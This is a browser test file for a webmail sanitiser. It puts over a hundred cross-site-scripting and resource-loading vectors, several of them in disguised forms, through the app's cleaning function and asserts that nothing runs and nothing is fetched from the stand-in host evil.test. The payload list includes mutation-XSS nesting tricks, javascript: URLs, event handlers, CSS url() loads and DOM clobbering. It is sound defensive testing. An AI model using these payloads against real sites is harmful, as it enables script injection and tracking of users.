// Hostile HTML, made of what OWASP's list of filter evasions and DOMPurify's tests are made of: ways to run something, ways to load
// something, and ways to write either so that it is not seen as such. Each is put through webmail's own cleaning into webmail's own
// frame. Whatever ran would set window.ran somewhere; whatever was loaded would be a request.
const run = "top.ran=1";
const vectors = [
	`<script>${run}</script>`, `<script src=//evil.test/x.js></script>`, `<img src=x onerror=${run}>`, `<img src=x onerror="${run}"`,
	`<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><set attributeName=href to=javascript:${run}>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
	`<svg><image href=//evil.test/a.png></image></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math href="javascript:${run}">x</math>`,
	`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${run}>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<iframe src="javascript:${run}"></iframe>`,
	`<iframe srcdoc="<script>${run}</script>"></iframe>`, `<iframe src=//evil.test/></iframe>`, `<object data="javascript:${run}"></object>`,
	`<object data=//evil.test/x></object>`, `<embed src=//evil.test/x>`, `<embed src="javascript:${run}">`, `<applet code=x></applet>`,
	`<video src=//evil.test/v onerror=${run}></video>`, `<video poster=//evil.test/p></video>`, `<audio src=//evil.test/a></audio>`,
	`<video><source onerror=${run} src=//evil.test/s></video>`, `<track src=//evil.test/t>`, `<picture><source srcset=//evil.test/p></picture>`,
	`<img srcset="//evil.test/a 1x">`, `<img src=//evil.test/a.png>`, `<img src=http://evil.test/a.png>`, `<img src="&#104;ttp://evil.test/a">`,
	`<img lowsrc=//evil.test/l>`, `<img dynsrc=//evil.test/d>`, `<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dG9wLnJhbj0xPg==>`,
	`<input type=image src=//evil.test/i>`, `<input autofocus onfocus=${run}>`, `<button formaction="javascript:${run}">x</button>`,
	`<form action="javascript:${run}"><input type=submit></form>`, `<form id=x></form><button form=x formaction=//evil.test>`,
	`<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<keygen autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`,
	`<body onload=${run}>`, `<body background=//evil.test/b>`, `<frameset onload=${run}>`, `<marquee onstart=${run}>x</marquee>`,
	`<div style="background:url(//evil.test/u)">x</div>`, `<div style="background:\\75rl(//evil.test/u)">x</div>`, `<div style="width:expression(${run})">x</div>`,
	`<div style="background-image:image-set('//evil.test/u' 1x)">x</div>`, `<div style="list-style:url(//evil.test/u)">x</div>`,
	`<div style="content:url(//evil.test/u)">x</div>`, `<div style="cursor:url(//evil.test/u),auto">x</div>`, `<div style="--a:url(//evil.test/u);background:var(--a)">x</div>`,
	`<div style="behavior:url(//evil.test/x.htc)">x</div>`, `<div style="-moz-binding:url(//evil.test/x.xml)">x</div>`, `<div style='mask:url("//evil.test/m")'>x</div>`,
	`<style>@import '//evil.test/s.css';</style>`, `<style>body{background:url(//evil.test/s)}</style>`, `<style>@font-face{font-family:x;src:url(//evil.test/f)}*{font-family:x}</style>`,
	`<link rel=stylesheet href=//evil.test/s.css>`, `<link rel=prefetch href=//evil.test/p>`, `<link rel=dns-prefetch href=//evil.test>`, `<link rel=preload as=image href=//evil.test/p>`,
	`<link rel=import href=//evil.test/i>`, `<meta http-equiv=refresh content="0;url=//evil.test/">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
	`<meta http-equiv=set-cookie content="a=b">`, `<base href=//evil.test/>`, `<base href="javascript:/"><a href="${run}">x</a>`, `<a href="javascript:${run}">x</a>`,
	`<a href="java\tscript:${run}">x</a>`, `<a href=" &#14; javascript:${run}">x</a>`, `<a href="&#x6A;avascript:${run}">x</a>`, `<a href="vbscript:${run}">x</a>`,
	`<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href=x ping=//evil.test/p>x</a>`, `<area href="javascript:${run}">`, `<map name=m><area href="javascript:${run}"></map><img usemap=#m>`,
	`<table background=//evil.test/t><td background=//evil.test/c>x</td></table>`, `<table><tbody background=//evil.test/t>`, `<isindex action="javascript:${run}">`,
	`<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<noembed><img title="</noembed><img src=x onerror=${run}>">`,
	`<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<textarea><p title="</textarea><img src=x onerror=${run}>">`, `<title><p title="</title><img src=x onerror=${run}>">`,
	`<!--><img src=x onerror=${run}>-->`, `<!--[if gte IE 4]><script>${run}</script><![endif]-->`, `<![CDATA[><img src=x onerror=${run}>]]>`, `<?xml-stylesheet href="javascript:${run}"?>`,
	`<xml id=x><a><b>&lt;script>${run}&lt;/script></b></a></xml>`, `<img """><script>${run}</script>">`, `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
	`<div onmouseover=${run} style="position:fixed;inset:0">x</div>`, `<div popover onbeforetoggle=${run} id=p></div><button popovertarget=p>`, `<dialog open onclose=${run}>x</dialog>`,
	`<p id=document><p name=body>`, `<img name=getElementById>`, `<form name=attributes><input name=nodeName></form>`, `<a id=location href="javascript:${run}">x</a>`,
	`<portal src=//evil.test/></portal>`, `<fencedframe src=//evil.test/></fencedframe>`, `<iframe src="about:blank" onload=${run}>`, `<slot onslotchange=${run}></slot>`, `<x contenteditable onblur=${run} tabindex=1 autofocus>`,
];
// What makes each of them look like something else.
const disguises = [
	(html) => html,
	(html) => html.replace(/<([a-z]+)/gi, (all, name) => `<${[...name].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join("")}`),
	(html) => html.replace(/ (on\w+|src|href|style)=/gi, "\n/ $1 \t="),
	(html) => `<div><table><tr><td>${html}</td></tr></table></div>`,
	(html) => `<p title="${html.replace(/"/g, "'")}">${html}`,
];

export const tests = {
	async "five hundred messages run nothing and load nothing"(t) {
		const all = disguises.flatMap((disguise) => vectors.map(disguise));
		const asked = [];
		t.page.on("request", (request) => { if (/evil/.test(request.url())) asked.push(request.url()); });
		await t.login(t.page, "anna", "anna-secret", "/mail/index.html");
		await t.page.locator(".message-list").waitFor();
		const bad = await t.page.evaluate(async (messages) => {
			const { clean } = await import("/mail/clean.js");
			const found = [];
			const frame = document.createElement("iframe");
			frame.sandbox = "allow-same-origin allow-popups allow-popups-to-escape-sandbox";
			frame.src = "/api/v1/mail/frame";
			const loaded = new Promise((resolve) => { frame.onload = resolve; });
			document.body.append(frame);
			await loaded;
			for (const message of messages) {
				const page = frame.contentDocument;
				page.body.replaceChildren(...[...clean(message).body.childNodes].map((node) => page.adoptNode(node)));
				const left = page.body.querySelector("script,iframe,object,embed,form,input,svg,math,style,link,meta,base,video,audio,template,[srcset],[background],[id],[name]")
					|| [...page.body.querySelectorAll("*")].find((node) => [...node.attributes].some((one) => /^on/i.test(one.name) || /javascript:|vbscript:|data:text/i.test(one.value) && one.name !== "title"
						|| (/^(src|poster|data)$/.test(one.name)) || (one.name === "style" && /url|expression|import/i.test(one.value))));
				if (left || window.ran || frame.contentWindow.ran)
					found.push(`${message} left ${left ? left.outerHTML : "something that ran"}`);
				window.ran = undefined;
				await new Promise((resolve) => { setTimeout(resolve); });
			}
			await new Promise((resolve) => { setTimeout(resolve, 500); });
			return { found, ran: window.ran };
		}, all);
		t.ok(all.length >= 500, `${all.length} messages`);
		t.is(bad.found, [], "nothing is left that could");
		t.is(bad.ran, undefined, "nothing ran");
		t.is(asked, [], "nothing was asked for");
		t.allow(/Content Security Policy/); // lines about what was parsed, which this test has much of
	},
};
